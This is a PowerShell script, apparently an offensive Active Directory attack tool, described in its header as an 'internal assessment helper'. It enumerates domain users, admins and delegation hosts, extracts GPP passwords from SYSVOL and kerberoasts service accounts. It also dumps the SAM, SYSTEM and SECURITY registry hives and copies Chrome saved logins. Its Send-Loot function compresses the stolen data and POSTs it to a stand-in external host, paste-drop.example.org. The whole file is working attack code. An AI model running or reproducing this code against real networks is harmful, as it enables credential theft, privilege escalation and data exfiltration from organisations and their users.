<#
    Invoke-DomainRecon.ps1
    internal assessment helper - enumerate the domain, roast SPNs, grab what we can
    usage: . .\Invoke-DomainRecon.ps1; Invoke-DomainRecon -OutDir C:\Users\Public\r
#>

function Invoke-DomainRecon {
    param(
        [string]$OutDir = "$env:PUBLIC\r",
        [string]$Domain = $env:USERDNSDOMAIN,
        [switch]$Roast,
        [switch]$Loot
    )

    New-Item -ItemType Directory -Path $OutDir -Force | Out-Null
    $root = [adsi]"LDAP://$Domain"
    $searcher = New-Object System.DirectoryServices.DirectorySearcher($root)
    $searcher.PageSize = 1000

    # users with SPNs
    $searcher.Filter = '(&(samAccountType=805306368)(servicePrincipalName=*))'
    $spnUsers = $searcher.FindAll() | % {
        [pscustomobject]@{
            User = $_.Properties['samaccountname'][0]
            SPN  = $_.Properties['serviceprincipalname'] -join ';'
            Pwd  = [datetime]::FromFileTime([int64]$_.Properties['pwdlastset'][0])
        }
    }
    $spnUsers | Export-Csv "$OutDir\spn.csv" -NoTypeInformation

    # AS-REP roastable
    $searcher.Filter = '(&(samAccountType=805306368)(userAccountControl:1.2.840.113556.1.4.803:=4194304))'
    $asrep = $searcher.FindAll() | % { $_.Properties['samaccountname'][0] }
    $asrep | Out-File "$OutDir\asrep.txt"

    # domain admins and nested
    $searcher.Filter = '(&(objectCategory=group)(adminCount=1))'
    $admins = foreach ($g in $searcher.FindAll()) {
        foreach ($m in $g.Properties['member']) {
            [pscustomobject]@{ Group = $g.Properties['name'][0]; Member = $m }
        }
    }
    $admins | Export-Csv "$OutDir\admins.csv" -NoTypeInformation

    # unconstrained delegation hosts
    $searcher.Filter = '(&(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=524288))'
    $searcher.FindAll() | % { $_.Properties['dnshostname'][0] } | Out-File "$OutDir\unconstrained.txt"

    # GPP passwords left in SYSVOL
    $gpp = gci "\\$Domain\SYSVOL\$Domain\Policies" -Recurse -Include Groups.xml, Services.xml, ScheduledTasks.xml -ErrorAction SilentlyContinue
    foreach ($f in $gpp) {
        [xml]$x = Get-Content $f.FullName
        $x.SelectNodes('//*[@cpassword]') | % {
            "$($f.FullName): $($_.userName) $($_.cpassword)" | Out-File "$OutDir\gpp.txt" -Append
        }
    }

    if ($Roast) {
        Add-Type -AssemblyName System.IdentityModel
        foreach ($u in $spnUsers) {
            $spn = $u.SPN.Split(';')[0]
            try {
                $ticket = New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $spn
                $bytes = $ticket.GetRequest()
                $hex = [BitConverter]::ToString($bytes) -replace '-'
                "$($u.User):${spn}:$hex" | Out-File "$OutDir\tgs.txt" -Append
            }
            catch {
                Write-Host "[-] $spn : $($_.Exception.Message)"
            }
        }
    }

    if ($Loot) {
        # local hives for offline cracking
        reg save HKLM\SAM "$OutDir\sam.hiv" /y
        reg save HKLM\SYSTEM "$OutDir\system.hiv" /y
        reg save HKLM\SECURITY "$OutDir\security.hiv" /y

        # saved RDP / browser bits
        cmdkey /list | Out-File "$OutDir\cmdkey.txt"
        Copy-Item "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Login Data" "$OutDir\chrome_login.db" -ErrorAction SilentlyContinue
    }

    Write-Host "[+] done -> $OutDir"
}

function Get-LocalAdminAccess {
    param([string[]]$Computers)
    $targets = Get-ADComputer -Filter * | select -ExpandProperty DNSHostName
    foreach ($t in $targets) {
        if (Test-Path "\\$t\C$" -ErrorAction SilentlyContinue) {
            $t
        }
    }
}

function Send-Loot {
    param([string]$Dir, [string]$Url = 'https://paste-drop.example.org/up')
    Compress-Archive -Path "$Dir\*" -DestinationPath "$env:TEMP\l.zip" -Force
    $b64 = [Convert]::ToBase64String([IO.File]::ReadAllBytes("$env:TEMP\l.zip"))
    Invoke-RestMethod -Uri $Url -Method Post -Body @{ f = $b64 } | Out-Null
    Remove-Item "$env:TEMP\l.zip"
}
